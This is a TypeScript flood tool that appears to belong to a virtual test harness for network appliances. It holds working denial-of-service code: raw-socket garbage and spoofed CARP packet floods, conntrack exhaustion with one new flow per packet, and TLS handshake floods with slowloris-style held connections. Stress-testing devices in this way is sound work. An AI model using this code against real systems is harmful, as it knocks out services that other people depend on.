// A hostile host's flood tool, run inside a board namespace (`ip netns exec NS node --import tsx ...`).
// Packets leave through an AF_PACKET socket (whole IPv4 datagrams, any header), paced by a schedule like
// attacker.ts: every ~1 ms the packets that are due go out, so the rate holds whatever the timer's granularity.
// Every mode is bounded by a duration and a count and ends with one JSON line of what it achieved.
//
//   flooder.ts garbage IFNAME SRC PPS FOR_MS MAX TARGETS_JSON
//       random garbage to the targets [{ip, mac, tcp: [ports], udp: [ports]}]: UDP with random payloads to
//       their UDP ports, TCP SYNs and TCP segments with random flags to their TCP ports, random payloads as
//       CARP (proto 112, to the targets and to 224.0.0.18), random IP protocols, UDP/TCP to random ports
//   flooder.ts conns IFNAME SRC GWMAC DST PPS FOR_MS MAX
//       one new flow per packet through the gateway at GWMAC to DST: TCP SYNs and UDP datagrams, each with a
//       source/destination port pair not used before in this run (conntrack makes an entry for each)
//   flooder.ts tls HOST PORT PARALLEL HOLD FOR_MS MAX
//       TLS handshakes without end: PARALLEL loops each opening a connection, then alternately a full
//       handshake or a ClientHello only (dropped once the server answers, after its expensive half), then
//       dropped; and HOLD connections opened once and kept silent or half-sent until the end (slowloris)
import net from 'node:net';
import tls from 'node:tls';
import { Duplex } from 'node:stream';
import { randomBytes, randomInt } from 'node:crypto';
import { native } from '../../host/io/native.js';
import { checksum, ipBytes } from './carp.js';
import { sleep } from '../../board/virtual/wait.js';

const [verb, ...args] = process.argv.slice(2);
const now = () => performance.now();
const macBytes = (m: string) => Uint8Array.from(m.split(':').map((h) => parseInt(h, 16)));
const CARP_MAC = macBytes('01:00:5e:00:00:12');

function ipv4(src: string, dst: string, proto: number, l4: Buffer, ttl = 64): Buffer {
  const h = Buffer.alloc(20);
  h[0] = 0x45; h.writeUInt16BE(20 + l4.length, 2); h.writeUInt16BE(randomInt(65536), 4); h.writeUInt16BE(0x4000, 6);
  h[8] = ttl; h[9] = proto;
  ipBytes(src).copy(h, 12); ipBytes(dst).copy(h, 16);
  h.writeUInt16BE(checksum(h), 10);
  return Buffer.concat([h, l4]);
}

/** UDP with checksum 0 ("none", valid in IPv4): the payload reaches the socket. */
function udp(sport: number, dport: number, payload: Buffer): Buffer {
  const u = Buffer.alloc(8 + payload.length);
  u.writeUInt16BE(sport, 0); u.writeUInt16BE(dport, 2); u.writeUInt16BE(u.length, 4);
  payload.copy(u, 8);
  return u;
}

/** A TCP header with a correct checksum (conntrack drops bad ones before anything sees them). */
function tcp(src: string, dst: string, sport: number, dport: number, flags: number): Buffer {
  const t = Buffer.alloc(20);
  t.writeUInt16BE(sport, 0); t.writeUInt16BE(dport, 2); t.writeUInt32BE(randomInt(2 ** 32), 4);
  if (flags & 0x10) t.writeUInt32BE(randomInt(2 ** 32), 8);
  t[12] = 5 << 4; t[13] = flags; t.writeUInt16BE(64240, 14);
  const pseudo = Buffer.concat([ipBytes(src), ipBytes(dst), Buffer.from([0, 6, 0, 20]), t]);
  t.writeUInt16BE(checksum(pseudo), 16);
  return t;
}

interface Frame { mac: Uint8Array; pkt: Buffer }

/** Send `next(i)` for i = 0.. at `pps` for `forMs` (at most `max`); the JSON line says what went out. */
async function pace(ifname: string, pps: number, forMs: number, max: number, next: (i: number) => Frame, extra: () => object = () => ({})): Promise<void> {
  const { index } = native.ifInfo(ifname);
  const fd = native.openPacket(ifname, 0x0800);
  const t0 = now();
  let sent = 0, blocked = 0;
  for (let tick = 0; tick < 10_000_000; tick++) {
    const el = now() - t0;
    if (el >= forMs || sent >= max) break;
    const due = Math.min(max, Math.floor((el * pps) / 1000) + 1);
    while (sent < due) {
      const f = next(sent);
      if (native.sendPacket(fd, index, f.mac, 0x0800, f.pkt) < 0) { blocked++; break; }
      sent++;
    }
    await sleep(1);
  }
  const ms = now() - t0;
  native.close(fd);
  process.stdout.write(JSON.stringify({ sent, blocked, ms: Math.round(ms), pps: Math.round((sent * 1000) / ms), ...extra() }) + '\n');
}

interface Target { ip: string; mac: string; tcp: number[]; udp: number[] }

async function garbage(ifname: string, src: string, pps: number, forMs: number, max: number, targets: Target[]): Promise<void> {
  // A pool of distinct packets, cycled: building them is what would otherwise cap the rate.
  const pool: Frame[] = [];
  const kinds: Record<string, number> = {};
  const pick = <T>(a: T[]) => a[randomInt(a.length)];
  const rport = () => 1 + randomInt(65535);
  const add = (kind: string, f: Frame) => { pool.push(f); kinds[kind] = (kinds[kind] ?? 0) + 1; };
  for (let i = 0; i < 8192; i++) {
    const t = pick(targets);
    const mac = macBytes(t.mac);
    const r = randomInt(100);
    if (r < 35 && t.udp.length) add('udp', { mac, pkt: ipv4(src, t.ip, 17, udp(rport(), pick(t.udp), randomBytes(randomInt(513)))) });
    else if (r < 55 && t.tcp.length) add('tcp_syn', { mac, pkt: ipv4(src, t.ip, 6, tcp(src, t.ip, 1024 + randomInt(64512), pick(t.tcp), 0x02)) });
    else if (r < 62 && t.tcp.length) add('tcp_flags', { mac, pkt: ipv4(src, t.ip, 6, tcp(src, t.ip, 1024 + randomInt(64512), pick(t.tcp), randomInt(256))) });
    else if (r < 68) add('carp_unicast', { mac, pkt: ipv4(src, t.ip, 112, randomBytes(36 + randomInt(64)), 255) });
    else if (r < 76) add('carp_multicast', { mac: CARP_MAC, pkt: ipv4(src, '224.0.0.18', 112, randomBytes(36 + randomInt(64)), 255) });
    else if (r < 86) add('ip_random_proto', { mac, pkt: ipv4(src, t.ip, randomInt(256), randomBytes(randomInt(257))) });
    else if (r < 93) add('udp_random_port', { mac, pkt: ipv4(src, t.ip, 17, udp(rport(), rport(), randomBytes(randomInt(129)))) });
    else add('tcp_random_port', { mac, pkt: ipv4(src, t.ip, 6, tcp(src, t.ip, rport(), rport(), 0x02)) });
  }
  await pace(ifname, pps, forMs, max, (i) => pool[i % pool.length], () => ({ pool: kinds }));
}

async function conns(ifname: string, src: string, gwmac: string, dst: string, pps: number, forMs: number, max: number): Promise<void> {
  const mac = macBytes(gwmac);
  // Flow i: source port 1024 + i mod 64,000, destination port 20,000 + i div 64,000: never the same pair twice.
  // Even flows are TCP SYNs, odd ones UDP.
  const tmpl = ipv4(src, dst, 6, tcp(src, dst, 1024, 20000, 0x02));
  const utmpl = ipv4(src, dst, 17, udp(1024, 20000, Buffer.alloc(16)));
  const flow = (i: number) => [1024 + (i % 64_000), 20_000 + Math.floor(i / 64_000)];
  await pace(ifname, pps, forMs, max, (i) => {
    const [sp, dp] = flow(i);
    if (i & 1) {
      const p = Buffer.from(utmpl);
      p.writeUInt16BE(sp, 20); p.writeUInt16BE(dp, 22);
      return { mac, pkt: p };
    }
    const p = Buffer.from(tmpl);
    p.writeUInt16BE(sp, 20); p.writeUInt16BE(dp, 22); p.writeUInt16BE(0, 36);
    const pseudo = Buffer.concat([p.subarray(12, 20), Buffer.from([0, 6, 0, 20]), p.subarray(20, 40)]);
    p.writeUInt16BE(checksum(pseudo), 36);
    return { mac, pkt: p };
  });
}

/** The bytes a Node TLS client sends first (its ClientHello), captured from a handshake with nobody. */
async function clientHello(): Promise<Buffer> {
  return await new Promise<Buffer>((resolve) => {
    const sink = new Duplex({
      read() {},
      write(chunk: Buffer, _e, cb) { resolve(Buffer.from(chunk)); cb(); },
    });
    const s = tls.connect({ socket: sink as unknown as net.Socket, rejectUnauthorized: false });
    s.on('error', () => {});
    setTimeout(() => s.destroy(), 100);
  });
}

async function tlsFlood(host: string, port: number, parallel: number, hold: number, forMs: number, max: number): Promise<void> {
  const hello = await clientHello();
  const t0 = now();
  const end = t0 + forMs;
  const c = { started: 0, full: 0, half: 0, failed: 0, held: 0, held_closed_by_server: 0 };
  const live = new Set<net.Socket>();
  const done = () => now() >= end || c.started >= max;

  function once(full: boolean): Promise<void> {
    c.started++;
    return new Promise<void>((resolve) => {
      const timer = setTimeout(() => { s.destroy(); c.failed++; resolve(); }, 5000);
      const finish = (ok: boolean) => { clearTimeout(timer); s.destroy(); if (ok) { if (full) c.full++; else c.half++; } else c.failed++; resolve(); };
      let s: net.Socket;
      if (full) {
        s = tls.connect({ host, port, rejectUnauthorized: false }, () => finish(true));
        s.on('error', () => finish(false));
      } else {
        s = net.connect({ host, port }, () => s.write(hello));
        s.once('data', () => finish(true));
        s.on('error', () => finish(false));
        s.on('close', () => finish(false));
      }
    });
  }

  // The held connections: half silent, half stopped in the middle of a ClientHello.
  for (let i = 0; i < hold && !done(); i++) {
    const s = net.connect({ host, port }, () => { c.held++; if (i & 1) s.write(hello.subarray(0, 20)); });
    s.on('error', () => {});
    s.on('close', () => { if (live.delete(s) && now() < end) c.held_closed_by_server++; });
    live.add(s);
    if (i % 50 === 49) await sleep(1);
  }

  const workers = Array.from({ length: parallel }, async (_, w) => {
    for (let k = 0; k < 1_000_000 && !done(); k++) await once(((k + w) & 1) === 0);
  });
  await Promise.all(workers);
  const ms = now() - t0;
  const stillHeld = live.size;
  for (const s of live) s.destroy();
  process.stdout.write(JSON.stringify({ ...c, still_held: stillHeld, ms: Math.round(ms), handshakes_per_s: Math.round(((c.full + c.half) * 1000) / ms) }) + '\n');
}

const n = (i: number) => Number(args[i]);
if (verb === 'garbage') await garbage(args[0], args[1], n(2), n(3), n(4), JSON.parse(args[5]));
else if (verb === 'conns') await conns(args[0], args[1], args[2], args[3], n(4), n(5), n(6));
else if (verb === 'tls') await tlsFlood(args[0], n(1), n(2), n(3), n(4), n(5));
else { process.stderr.write('usage: flooder.ts garbage|conns|tls ... (see the header)\n'); process.exit(2); }
